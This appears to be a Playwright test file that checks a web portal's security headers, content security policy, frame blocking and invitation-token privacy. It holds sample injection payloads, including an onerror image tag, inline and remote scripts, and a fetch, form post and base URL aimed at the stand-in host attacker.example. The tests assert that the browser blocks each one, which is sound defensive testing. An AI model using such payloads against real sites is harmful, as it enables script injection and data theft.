import { fileURLToPath } from "node:url";
import { readStyleHash } from "#deploy/prerenderedPages.ts";
import { createContentSecurityPolicy } from "#deploy/securityHeaders.ts";
import { urls } from "#testing/samples/urls.ts";
import { expectPortalUrl, signInUrl } from "../support/actions/signIn.ts";
import { oneCountry } from "../support/config/countries.ts";
import { backendOrigin, portalHost, ports } from "../support/config/ports.ts";
import { expect, test } from "../support/fixtures/test.ts";

const attacker = "https://attacker.example";

const policy = createContentSecurityPolicy(
  {
    connections: [`http://localhost:${ports.registration}`, `http://localhost:${ports.identity}`],
    hasTagManager: true,
  },
  readStyleHash(fileURLToPath(import.meta.resolve("../../dist"))),
);

/** Attacks on a page, each with the directive that refuses it. */
const attacks: Record<string, { directive: string; run: () => unknown }> = {
  "markup as text": {
    directive: "require-trusted-types-for",
    run: () => {
      document.body.innerHTML = "<img src='' onerror='document.title=1'>";
    },
  },
  "an inline script": {
    directive: "require-trusted-types-for",
    run: () => {
      const script = document.createElement("script");
      script.textContent = "document.title = 1";
      document.head.append(script);
    },
  },
  "a script of another origin": {
    directive: "require-trusted-types-for",
    run: () => {
      const script = document.createElement("script");
      script.src = "https://attacker.example/script.js";
      document.head.append(script);
    },
  },
  "another trusted types policy": {
    directive: "trusted-types",
    run: () => window.trustedTypes?.createPolicy("default", { createScriptURL: (url) => url }),
  },
  "an inline style": {
    directive: "style-src-elem",
    run: () => {
      const style = document.createElement("style");
      style.textContent = "body { display: none }";
      document.head.append(style);
    },
  },
  "a request to another origin": {
    directive: "connect-src",
    run: () => fetch("https://attacker.example/"),
  },
  "a frame of another origin": {
    directive: "frame-src",
    run: () => {
      const frame = document.createElement("iframe");
      frame.src = "https://attacker.example/";
      document.body.append(frame);
    },
  },
  "a form that posts to another origin": {
    directive: "form-action",
    run: () => {
      const form = document.createElement("form");
      form.action = "https://attacker.example/";
      document.body.append(form);
      form.submit();
    },
  },
  "another base URL": {
    directive: "base-uri",
    run: () => {
      const base = document.createElement("base");
      base.href = "https://attacker.example/";
      document.head.append(base);
    },
  },
};

test.describe("Response headers of the portal", oneCountry, () => {
  test("protect every page", async ({ page }) => {
    for (const { path, opener } of [
      { path: "/", opener: "same-origin" },
      { path: "/campaign-asset-preview/my_taglys_banner", opener: "unsafe-none" },
      // This one is last, since its redirect to the provider could interrupt the next navigation.
      { path: urls.project, opener: "same-origin" },
    ]) {
      await test.step(path, async () => {
        const url = `http://${portalHost("DE")}${path}`;
        const document = page.waitForResponse((response) => response.url() === url);
        await page.goto(url, { waitUntil: "commit" });
        expect((await document).headers()).toMatchObject({
          "content-security-policy": policy,
          "strict-transport-security": "max-age=63072000",
          "x-content-type-options": "nosniff",
          "referrer-policy": "no-referrer",
          "permissions-policy": expect.stringContaining("camera=(), "),
          "cross-origin-opener-policy": opener,
          "x-frame-options": "DENY",
        });
      });
    }
  });

  test("forbid scripts in responses of the services", async ({ request }) => {
    const response = await request.get(`http://127.0.0.1:${ports.portal}/api/campaigns`, {
      headers: { host: portalHost("DE") },
    });
    expect(response.status()).toBe(200);
    expect(response.headers()).toMatchObject({
      "content-security-policy":
        "script-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
    });
  });

  test("keep other sites from showing the portal in a frame", async ({ page, browserErrors }) => {
    browserErrors.ignore(/^console: .*frame-ancestors 'none'/);
    const failure = page.waitForEvent("requestfailed");
    // Uses another origin on this machine, since Chromium keeps public sites from loading local ones.
    await page.goto(`${backendOrigin}/api/campaigns`);
    await page.evaluate(
      (url) => {
        const frame = document.createElement("iframe");
        frame.src = url;
        document.body.append(frame);
      },
      `http://${portalHost("DE")}/`,
    );
    const request = await failure;
    expect(request.url()).toBe(`http://${portalHost("DE")}/`);
    expect(request.failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
  });
});

test.describe("Content security policy", oneCountry, () => {
  test("blocks each attack on an open page", async ({ page, browserErrors, t }) => {
    const reachedUrls: string[] = [];
    await page.route(`${attacker}/**`, (route) => {
      reachedUrls.push(route.request().url());
      return route.abort();
    });
    browserErrors.ignore(/^console: /);
    await page.goto("/");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(t("page.introduction.title"));
    for (const [name, { directive, run }] of Object.entries(attacks)) {
      await test.step(name, async () => {
        browserErrors.expect(new RegExp(`^policy: ${directive} refused`));
        const violation = await page.evaluateHandle(() => ({
          directive: new Promise<string>((resolve) =>
            addEventListener(
              "securitypolicyviolation",
              ({ effectiveDirective }) => resolve(effectiveDirective),
              { once: true },
            ),
          ),
        }));
        await page.evaluate(run).catch(() => {});
        expect(await violation.evaluate((it) => it.directive)).toBe(directive);
      });
    }
    expect(reachedUrls).toEqual([]);
  });

  test("blocks scripts that an attacker adds to the HTML", async ({ page, browserErrors, t }) => {
    await page.route("/", async (route) => {
      // Node does not resolve the country's host name.
      const headers = { ...(await route.request().allHeaders()), host: portalHost("DE") };
      const response = await route.fetch({ url: `http://127.0.0.1:${ports.portal}/`, headers });
      const html = await response.text();
      const body = html.replace(
        "<body>",
        `<body onload="injected = 1"><script>injected = 2</script><script src="${attacker}/"></script>`,
      );
      await route.fulfill({ response, body });
    });
    browserErrors.expect(
      /^policy: script-src-attr refused inline/,
      /^policy: script-src-elem refused inline/,
      /^policy: script-src-elem refused https:\/\/attacker\.example\//,
    );
    browserErrors.ignore(/^console: /);
    await page.goto("/");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(t("page.introduction.title"));
    expect(await page.evaluate(() => Reflect.has(window, "injected"))).toBe(false);
  });
});

test.describe("Token of an invitation", oneCountry, () => {
  test("is sent to the API alone, and in no referrer", async ({ page, context, t }) => {
    const portal = `http://${portalHost("DE")}/`;
    const invitation = urls.invitation;
    const referrers: Promise<string | null>[] = [];
    const otherUrls: string[] = [];
    context.on("request", (request) => {
      referrers.push(request.headerValue("referer"));
      if (!request.url().startsWith(portal)) otherUrls.push(request.url());
    });
    await page.goto(invitation);
    await expectPortalUrl(page, invitation);
    await page.getByRole("button", { name: t("page.associate.signInAndAdd") }).click();
    await page.waitForURL(signInUrl);
    expect(await page.evaluate(() => document.referrer)).toBe("");
    expect((await Promise.all(referrers)).filter((referrer) => referrer?.startsWith(portal))).toEqual([]);
    expect(otherUrls.length).toBeGreaterThan(0);
    expect(otherUrls.filter((url) => url.includes("welcome-home"))).toEqual([]);
  });
});
